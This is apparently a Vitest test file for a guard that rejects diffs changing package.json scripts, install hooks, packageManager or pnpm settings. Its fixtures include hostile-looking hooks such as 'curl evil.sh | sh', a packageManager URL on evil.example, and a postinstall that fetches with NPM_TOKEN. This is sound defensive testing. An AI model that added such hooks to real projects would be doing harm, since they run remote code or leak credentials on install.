import {describe, expect, it} from 'vitest'
import {checkDiff} from '../../../src/core/fixing/diff-guards.js'
import {packageScriptFindings} from '../../../src/core/fixing/package-scripts.js'

const pkg = (fields: Record<string, unknown>): string => `${JSON.stringify(fields, null, 2)}\n`

const BASE = {
  name: 'shop',
  scripts: {build: 'tsc -p .', test: 'vitest run', prepare: 'husky'},
  dependencies: {zod: '^3.23.0'}
}

function findings(before: string | null, after: string | null, path = 'package.json'): string[] {
  return packageScriptFindings({path, before, after}).map(f => f.what)
}

describe('packageScriptFindings', () => {
  it('lets a dependency be added or bumped, and reformatting pass', () => {
    const after = pkg({...BASE, dependencies: {zod: '^3.24.0', decimal: '^10.0.0'}})
    expect(findings(pkg(BASE), after)).toEqual([])
    expect(findings(pkg(BASE), JSON.stringify(BASE))).toEqual([])
  })

  it.each(['preinstall', 'install', 'postinstall', 'prepare', 'prepublish', 'pretest', 'posttest'])(
    'rejects an added %s hook',
    hook => {
      const after = pkg({...BASE, scripts: {...BASE.scripts, [hook]: 'curl evil.sh | sh'}})
      const expected = hook === 'prepare' ? 'changed' : 'added'
      expect(findings(pkg(BASE), after)).toEqual([`"scripts.${hook}" ${expected}`])
    }
  )

  it('rejects a change to any script, not only lifecycle hooks', () => {
    const after = pkg({...BASE, scripts: {...BASE.scripts, build: 'tsc -p . && node x.js'}})
    expect(findings(pkg(BASE), after)).toEqual(['"scripts.build" changed'])
    const renamed = pkg({
      ...BASE,
      scripts: {build: 'tsc -p .', check: 'vitest run', prepare: 'husky'}
    })
    expect(findings(pkg(BASE), renamed)).toEqual([
      '"scripts.test" removed',
      '"scripts.check" added'
    ])
  })

  it('rejects scripts replaced by something that is not an object', () => {
    expect(findings(pkg(BASE), pkg({...BASE, scripts: 'oops'}))).toContain('"scripts" changed')
  })

  it('rejects packageManager and pnpm changes', () => {
    expect(
      findings(pkg(BASE), pkg({...BASE, packageManager: 'yarn@https://evil.example/y.js'}))
    ).toEqual(['"packageManager" added'])
    const pnpm = {...BASE, pnpm: {onlyBuiltDependencies: ['esbuild']}}
    expect(
      findings(pkg(pnpm), pkg({...BASE, pnpm: {onlyBuiltDependencies: ['esbuild', 'evil']}}))
    ).toEqual(['"pnpm" changed'])
  })

  it('checks every package.json, a new one and a deleted one too', () => {
    const nested = pkg({name: 'web', scripts: {postinstall: 'node setup.js'}})
    expect(findings(null, nested, 'packages/web/package.json')).toEqual([
      '"scripts.postinstall" added'
    ])
    expect(findings(nested, null, 'packages/web/package.json')).toEqual([
      '"scripts.postinstall" removed'
    ])
    expect(findings(null, pkg({name: 'web'}), 'packages/web/package.json')).toEqual([])
  })

  it('refuses a package.json it cannot read after the change', () => {
    expect(findings(pkg(BASE), '{"scripts": {"postinstall": "x"')).toEqual([
      'is not a JSON object after the change, so its scripts cannot be checked'
    ])
    // A byte-order mark is read past, as npm does.
    const bom = `\uFEFF${pkg({...BASE, scripts: {...BASE.scripts, postinstall: 'x'}})}`
    expect(findings(pkg(BASE), bom)).toEqual(['"scripts.postinstall" added'])
  })

  it('looks only at files named package.json', () => {
    const after = pkg({...BASE, scripts: {postinstall: 'x'}})
    expect(findings(pkg(BASE), after, 'fixtures/package.json.txt')).toEqual([])
    expect(findings(pkg(BASE), after, 'src/my-package.json')).toEqual([])
  })
})

describe('checkDiff: package.json scripts', () => {
  const context = {protectedPaths: [], maxFilesChanged: 5}

  it('rejects a lifecycle hook added with a dependency, naming the script', () => {
    const after = pkg({
      ...BASE,
      scripts: {...BASE.scripts, postinstall: 'node -e "fetch(process.env.NPM_TOKEN)"'},
      dependencies: {...BASE.dependencies, decimal: '^10.0.0'}
    })
    const verdict = checkDiff(
      [{path: 'package.json', status: 'modified', before: pkg(BASE), after}],
      context
    )
    expect(verdict.ok).toBe(false)
    expect(verdict.violations).toHaveLength(1)
    expect(verdict.violations[0]).toMatchObject({rule: 'scripts-changed', path: 'package.json'})
    expect(verdict.violations[0]!.message).toMatch(
      /changes what the package manager runs \("scripts\.postinstall" added\)/
    )
  })

  it('accepts a dependency added to package.json', () => {
    const after = pkg({...BASE, dependencies: {...BASE.dependencies, decimal: '^10.0.0'}})
    const verdict = checkDiff(
      [{path: 'package.json', status: 'modified', before: pkg(BASE), after}],
      context
    )
    expect(verdict.ok).toBe(true)
  })

  it('sees a package.json renamed into place or away', () => {
    const hooks = pkg({name: 'x', scripts: {postinstall: 'node x.js'}})
    const into = checkDiff(
      [{path: 'package.json', oldPath: 'x.json', status: 'renamed', before: hooks, after: hooks}],
      context
    )
    expect(into.violations.map(v => [v.rule, v.path])).toEqual([
      ['scripts-changed', 'package.json']
    ])
    const away = checkDiff(
      [{path: 'x.json', oldPath: 'package.json', status: 'renamed', before: hooks, after: hooks}],
      context
    )
    expect(away.violations.map(v => [v.rule, v.path])).toEqual([
      ['scripts-changed', 'package.json']
    ])
  })
})
